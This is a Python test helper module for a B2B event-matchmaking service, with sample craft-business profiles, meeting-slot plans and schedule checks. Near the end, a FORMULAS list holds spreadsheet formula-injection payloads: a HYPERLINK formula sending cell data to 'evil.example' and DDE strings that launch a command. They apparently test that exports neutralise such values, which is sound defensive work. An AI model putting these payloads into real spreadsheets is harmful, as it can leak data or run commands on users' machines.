"""Shared pieces of the event tests: a small catalogue, a slot plan, participant rows, a scheduled event."""

from __future__ import annotations

from collections import Counter
from datetime import date, time
from pathlib import Path

from service import events as ev
from service.catalogue import Catalogue
from service.events import (
    EventService,
    SlotPlan,
)
from tests.conftest import record

PROFILES = [
    record("tn-1", description="Nabeul pottery workshop, glazed ceramics", offers="glazed pottery; small series",
           needs="distributor in Europe for ceramics"),
    record("tn-2", description="El Djem mosaics workshop", offers="stone mosaics; mosaic tables",
           needs="design shops in Europe for mosaics", sectors="crafts;furniture_interior"),
    record("ma-1", country="MA", city="Fès", description="Zellige tiles from Fès", offers="zellige tiles",
           needs="architects and distributors in Europe for zellige"),
    record("lb-1", country="LB", city="Beirut", sectors="jewellery", description="Beirut jewellery designers",
           offers="silver jewellery", needs="concept stores in Europe for jewellery"),
    record("fr-1", country="FR", city="Lyon", description="Distributor of Mediterranean ceramics in Europe",
           offers="distributor in Europe for ceramics", needs="glazed pottery small series"),
    record("it-1", country="IT", city="Milano", sectors="furniture_interior", description="Design shop in Milan",
           offers="design shops in Europe for mosaics", needs="stone mosaics and zellige tiles"),
    record("es-1", country="ES", city="Barcelona", sectors="jewellery;crafts", description="Concept store",
           offers="concept stores in Europe for jewellery", needs="silver jewellery and pottery"),
    record("de-1", country="DE", city="Berlin", description="Museum shop in Berlin, ceramics and pottery",
           offers="distributor in Europe for ceramics", needs="glazed pottery small series"),
]


MEMBERS = ["tn-1", "tn-2", "ma-1", "lb-1", "fr-1", "it-1", "es-1"]  # de-1 is in the catalogue, not the event


DAY = date(2031, 12, 1)  # a future fair: past days are refused without --allow-past


def plan(**kw: object) -> SlotPlan:
    base: dict[str, object] = {"days": (DAY,), "morning_start": time(9), "morning_end": time(11),
                               "afternoon_start": time(14), "afternoon_end": time(15), "slot_minutes": 30}
    base.update(kw)
    return SlotPlan(**base)  # type: ignore[arg-type]


def rows(ids: list[str] = MEMBERS, **extra: dict[str, object]) -> list[dict[str, object]]:
    return [{"profile_id": pid, "forbidden_slots": "", "max_meetings": "", "stand": "", **extra.get(pid, {})}
            for pid in ids]


def make_event(svc: EventService, *, tables: int = 3, ids: list[str] = MEMBERS, **kw: object) -> int:
    extra = kw.pop("extra", {})
    return ev.create_event(svc, name="CAT 2026 B2B", venue="Palais des Congrès, Tunis", timezone="Africa/Tunis",
                            plan=kw.pop("plan", plan()), tables=tables, participants=rows(ids, **extra))  # type: ignore


def accept_all(svc: EventService, eid: int) -> None:
    for r in ev.list_requests(svc, eid, ("pending",)):
        ev.accept(svc, r.id, as_organiser=True)


def check_stored(svc: EventService, eid: int) -> None:
    data = ev.event(svc, eid)
    reqs = {r.id: r for r in ev.list_requests(svc, eid)}
    forbidden = {p.profile_id: p.forbidden for p in data.participants}
    busy: Counter[tuple[str, int]] = Counter()
    tables: Counter[tuple[int, int]] = Counter()
    for a in ev.assignments(svc, eid):
        r = reqs[a.request_id]
        assert r.state == "accepted"
        for pid in (r.from_id, r.to_id):
            busy[(pid, a.slot)] += 1
            assert a.slot not in forbidden[pid]
        tables[(a.slot, a.table)] += 1
    assert max(busy.values(), default=1) == 1 and max(tables.values(), default=1) == 1


def scheduled_event(svc: EventService) -> int:
    eid = make_event(svc, tables=2)
    ev.request(svc, eid, "tn-1", "fr-1", priority="must", message="Dîner, puis visite; à bientôt")
    ev.request(svc, eid, "tn-1", "it-1")
    ev.request(svc, eid, "ma-1", "it-1")
    accept_all(svc, eid)
    ev.schedule(svc, eid, time_limit=5)
    return eid


EVENT_BODY = {"name": "CAT 2026 B2B", "venue": "Palais des Congrès, Tunis", "timezone": "Africa/Tunis",
              "days": ["2031-12-01"], "morning_start": "09:00", "morning_end": "11:00", "afternoon_start": None,
              "afternoon_end": None, "slot_minutes": 30, "tables": 2,
              "participants": [{"profile_id": p} for p in MEMBERS]}


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed =1+1", "\r=1+1"]


DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def stored_as_is(catalogue: Catalogue, **names: str) -> None:
    """Rename profiles straight in the database, as an older version (without text checks) may have stored them."""
    from dataclasses import replace

    from storage import repository as repo

    changed = [replace(p, name=names[p.id]) for p in repo.load_profiles(catalogue.engine) if p.id in names]
    repo.write_profiles(catalogue.engine, changed, model_id=catalogue.model_id, vectors={})


def all_cells(folder: Path) -> list[tuple[str, object]]:
    """(file, value) of every cell of every CSV and Excel file under ``folder``; Excel formulas as ('formula', ...)."""
    import csv

    import openpyxl

    cells: list[tuple[str, object]] = []
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as f:
            cells += [(path.name, v) for row in csv.reader(f) for v in row]
    for path in sorted(folder.rglob("*.xlsx")):
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for c in row:
                    value = ("formula", c.value) if c.data_type == "f" else c.value
                    cells.append((f"{path.name}:{sheet.title}", value))
    return cells
